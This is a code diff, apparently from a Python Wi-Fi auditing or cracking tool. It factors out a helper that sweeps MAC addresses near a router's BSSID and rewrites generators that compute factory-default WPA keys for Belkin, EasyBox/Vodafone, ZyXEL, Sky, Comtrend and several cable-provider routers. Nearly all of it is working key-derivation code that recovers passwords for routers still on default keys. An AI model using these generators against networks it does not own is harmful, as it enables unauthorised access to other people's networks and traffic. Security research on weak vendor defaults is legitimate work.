@@ -184,6 +184,15 @@ def _thomson_search_device(target: str, years, weeks, chunk: int = 1 << 20,
 # ---------------------------------------------------------------------------
 # Belkin (per-nibble MAC substitution, Jakob Lell 2012)
 
+def _mac_neighbours(bssid: bytes, offsets=(0, 1, -1)):
+    """Uppercase 12-hex MAC strings for BSSID and its radio/WAN
+    neighbours — the shared sweep of every MAC-derived family (vendors
+    print the key from a MAC one or two off the beacon BSSID)."""
+    base = int.from_bytes(bssid, "big")
+    for off in offsets:
+        yield format((base + off) & 0xFFFFFFFFFFFF, "012X")
+
+
 BELKIN_SSID_RE = re.compile(rb"^(?:Belkin[._]|belkin\.)([0-9A-Fa-f]{3,6})$")
 _BELKIN_CHARSET = "024613578ACE9BDF"
 _BELKIN_ORDER = (6, 2, 3, 8, 5, 1, 7, 4)  # 1-indexed into the last 8 nibbles
@@ -191,9 +200,7 @@ _BELKIN_ORDER = (6, 2, 3, 8, 5, 1, 7, 4)  # 1-indexed into the last 8 nibbles
 
 def belkin_keys(bssid: bytes):
     """Default keys for the WAN-MAC offsets Belkin units are seen with."""
-    base = int.from_bytes(bssid, "big")
-    for off in (0, 1, 2, -1):
-        mac = format((base + off) & 0xFFFFFFFFFFFF, "012X")
+    for mac in _mac_neighbours(bssid, offsets=(0, 1, 2, -1)):
         tail = mac[4:]
         yield "".join(
             _BELKIN_CHARSET[int(tail[p - 1], 16)] for p in _BELKIN_ORDER
@@ -208,9 +215,8 @@ EASYBOX_SSID_RE = re.compile(rb"^(?:EasyBox-|Arcor-|Vodafone)[0-9A-Fa-f]{6}$")
 
 def easybox_keys(bssid: bytes):
     """9-hex-digit default key mixed from the MAC's last two bytes."""
-    mac = bssid.hex().upper()
-    for off in (0, 1):
-        tail = format((int(mac, 16) + off) & 0xFFFFFFFFFFFF, "012X")[8:]
+    for mac in _mac_neighbours(bssid, offsets=(0, 1)):
+        tail = mac[8:]
         sn = "%05d" % int(tail, 16)
         d = [int(ch) for ch in sn]
         h = [int(ch, 16) for ch in tail]
@@ -255,9 +261,7 @@ ZYXEL_SSID_RE = re.compile(rb"^ZyXEL[0-9A-Fa-f]{6}$", re.I)
 def zyxel_keys(bssid: bytes):
     """First 20 uppercase hex chars of MD5 over the uppercase MAC hex
     string, for BSSID and its radio/WAN neighbours."""
-    base = int.from_bytes(bssid, "big")
-    for off in (0, 1, -1):
-        mac = format((base + off) & 0xFFFFFFFFFFFF, "012X")
+    for mac in _mac_neighbours(bssid):
         yield hashlib.md5(mac.encode()).hexdigest().upper()[:20].encode()
 
 
@@ -269,9 +273,7 @@ SKY_SSID_RE = re.compile(rb"^SKY[0-9]{5}$")
 
 
 def sky_keys(bssid: bytes):
-    base = int.from_bytes(bssid, "big")
-    for off in (0, 1, -1):
-        mac = format((base + off) & 0xFFFFFFFFFFFF, "012X")
+    for mac in _mac_neighbours(bssid):
         d = hashlib.md5(mac.encode()).digest()
         yield bytes(65 + b % 26 for b in d[:8])
 
@@ -286,9 +288,7 @@ _COMTREND_MAGIC = "bcgbghgg"
 
 def comtrend_keys(bssid: bytes, ssid_suffix: str):
     suffix = ssid_suffix.upper()
-    base = int.from_bytes(bssid, "big")
-    for off in (0, 1, -1):
-        mac = format((base + off) & 0xFFFFFFFFFFFF, "012X")
+    for mac in _mac_neighbours(bssid):
         seed = _COMTREND_MAGIC + mac[:8] + suffix + mac
         yield hashlib.md5(seed.encode()).hexdigest()[:20].encode()
 
@@ -367,13 +367,12 @@ MAC_FULL_SSID_RE = re.compile(rb"^(?:CVTV|Megared|INTERCABLE)", re.I)
 
 
 def mac_full_keys(bssid: bytes):
-    base = int.from_bytes(bssid, "big")
-    for off in (0, 1, -1):
-        mac = format((base + off) & 0xFFFFFFFFFFFF, "012x")
+    for umac in _mac_neighbours(bssid):
+        mac = umac.lower()
         yield mac.encode()
-        yield mac.upper().encode()
+        yield umac.encode()
         yield mac[2:].encode()
-        yield mac[2:].upper().encode()
+        yield umac[2:].encode()
 
 
 # ---------------------------------------------------------------------------
